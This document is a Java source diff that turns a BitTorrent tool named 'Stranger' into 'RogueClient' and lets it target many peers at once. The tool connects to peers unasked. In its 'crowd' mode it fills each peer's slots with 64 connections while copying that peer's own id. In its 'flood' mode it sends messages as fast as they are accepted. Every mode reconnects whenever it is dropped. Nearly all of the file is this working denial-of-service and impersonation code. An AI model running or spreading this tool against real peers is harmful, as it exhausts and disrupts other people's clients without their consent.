@@ -8,21 +8,25 @@ import java.net.Socket;
 import java.nio.ByteBuffer;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
-import java.util.Arrays;
+import java.util.ArrayList;
 import java.util.HexFormat;
+import java.util.List;
 import java.util.concurrent.Callable;
 import java.util.concurrent.Executors;
 import java.util.concurrent.atomic.AtomicLong;
-import java.util.stream.IntStream;
 
 /**
- * {@code Stranger leech|crowd|flood HOST PORT HASH SECONDS [PEER-ID]} speaks BitTorrent (BEP 3, 10)
- * to a peer without having been told of it: to read what it has, to fill its places with 64
- * connections, or to send it messages as fast as it takes them.
+ * {@code RogueClient leech|crowd|flood HASH SECONDS HOST:PORT...} speaks BitTorrent (BEP 3, 10) to
+ * peers that were not told of it: to read what they have, to fill the places of each with 64
+ * connections, or to send messages over four as fast as they are taken. A crowd has the peer id of
+ * whoever it speaks to.
  */
-public final class Stranger {
+public final class RogueClient {
   private static final Duration PATIENCE = Duration.ofSeconds(5);
   private static final int CROWD = 64;
+  private static final int FLOODS = 4;
+  private static final int HANDSHAKE = 68;
+  private static final int ID = 20;
   private static final int BLOCK = 16 << 10;
   private static final int BLOCKS = 256;
   private static final int MOST = 1 << 20;
@@ -31,55 +35,57 @@ public final class Stranger {
   private static final byte REQUEST = 6;
   private static final byte EXTENDED = 20;
 
-  private final InetSocketAddress address;
-  private final byte[] handshake;
+  private final String kind;
+  private final byte[] hash;
   private final Duration time;
   private final AtomicLong answered = new AtomicLong();
   private final AtomicLong received = new AtomicLong();
   private final AtomicLong sent = new AtomicLong();
   private final AtomicLong closed = new AtomicLong();
 
-  private Stranger(String[] arguments) {
-    this.address = new InetSocketAddress(arguments[1], Integer.parseInt(arguments[2]));
-    this.time = Duration.ofSeconds(Long.parseLong(arguments[4]));
-    var id = arguments.length > 5 ? arguments[5] : "-ZZ0001-000000000000";
-    this.handshake =
-        ByteBuffer.allocate(68)
-            .put((byte) 19)
-            .put("BitTorrent protocol".getBytes(StandardCharsets.US_ASCII))
-            .put(new byte[] {0, 0, 0, 0, 0, 0x10, 0, 0})
-            .put(HexFormat.of().parseHex(arguments[3]))
-            .put(Arrays.copyOf(id.getBytes(StandardCharsets.ISO_8859_1), 20))
-            .array();
+  private RogueClient(String kind, String hash, Duration time) {
+    this.kind = kind;
+    this.hash = HexFormat.of().parseHex(hash);
+    this.time = time;
   }
 
   /**
    * @param arguments see above
    */
   public static void main(String[] arguments) throws InterruptedException {
-    var stranger = new Stranger(arguments);
-    int count = arguments[0].equals("leech") ? 1 : CROWD;
-    boolean floods = arguments[0].equals("flood");
+    var time = Duration.ofSeconds(Long.parseLong(arguments[2]));
+    var client = new RogueClient(arguments[0], arguments[1], time);
+    var conversations = new ArrayList<Callable<Void>>();
+    for (var target : List.of(arguments).subList(3, arguments.length)) {
+      for (int i = 0; i < client.connections(); i++) {
+        conversations.add(() -> client.again(HostAndPort.of(target)));
+      }
+    }
     try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
-      Callable<Void> one = () -> stranger.again(floods);
-      threads.invokeAll(IntStream.range(0, count).mapToObj(_ -> one).toList());
+      threads.invokeAll(conversations);
     }
     System.out.printf(
         "%d handshakes answered, %d bytes after them, %d messages sent, %d connections closed%n",
-        stranger.answered.get(),
-        stranger.received.get(),
-        stranger.sent.get(),
-        stranger.closed.get());
+        client.answered.get(), client.received.get(), client.sent.get(), client.closed.get());
+  }
+
+  private int connections() {
+    return switch (kind) {
+      case "crowd" -> CROWD;
+      case "flood" -> FLOODS;
+      default -> 1;
+    };
   }
 
   /** Comes back whenever it is shown out, a second later. */
-  private Void again(boolean floods) throws InterruptedException {
+  private Void again(InetSocketAddress address) throws InterruptedException {
     long end = System.nanoTime() + time.toNanos();
+    byte[] id = "-ZZ0001-000000000000".getBytes(StandardCharsets.US_ASCII);
     while (System.nanoTime() < end) {
       try (var socket = new Socket()) {
         socket.connect(address, (int) PATIENCE.toMillis());
         socket.setSoTimeout((int) PATIENCE.toMillis());
-        converse(socket, floods, end);
+        converse(socket, id, end);
       } catch (IOException e) {
         closed.incrementAndGet();
       }
@@ -88,19 +94,26 @@ public final class Stranger {
     return null;
   }
 
-  private void converse(Socket socket, boolean floods, long end) throws IOException {
+  /**
+   * @param id to show; the other side's is copied into it
+   */
+  private void converse(Socket socket, byte[] id, long end) throws IOException {
     var out = socket.getOutputStream();
     var in = new DataInputStream(socket.getInputStream());
-    out.write(handshake);
-    in.readFully(new byte[handshake.length]);
+    out.write(handshake(id));
+    byte[] theirs = new byte[HANDSHAKE];
+    in.readFully(theirs);
     answered.incrementAndGet();
+    if (kind.equals("crowd")) {
+      System.arraycopy(theirs, HANDSHAKE - ID, id, 0, ID);
+    }
     var extended = "d1:md11:ut_metadatai1eee".getBytes(StandardCharsets.US_ASCII);
     send(out, EXTENDED, ByteBuffer.allocate(1 + extended.length).put((byte) 0).put(extended));
     send(out, INTERESTED, ByteBuffer.allocate(0));
     for (int i = 0; i < BLOCKS; i++) {
       send(out, REQUEST, ByteBuffer.allocate(12).putInt(0).putInt(i * BLOCK).putInt(BLOCK));
     }
-    if (floods) {
+    if (kind.equals("flood")) {
       flood(out, end);
     }
     while (System.nanoTime() < end) {
@@ -111,6 +124,16 @@ public final class Stranger {
       in.skipNBytes(length);
       received.addAndGet(length);
     }
+  }
+
+  private byte[] handshake(byte[] id) {
+    return ByteBuffer.allocate(HANDSHAKE)
+        .put((byte) 19)
+        .put("BitTorrent protocol".getBytes(StandardCharsets.US_ASCII))
+        .put(new byte[] {0, 0, 0, 0, 0, 0x10, 0, 0})
+        .put(hash)
+        .put(id)
+        .array();
   }
 
   private void flood(OutputStream out, long end) throws IOException {
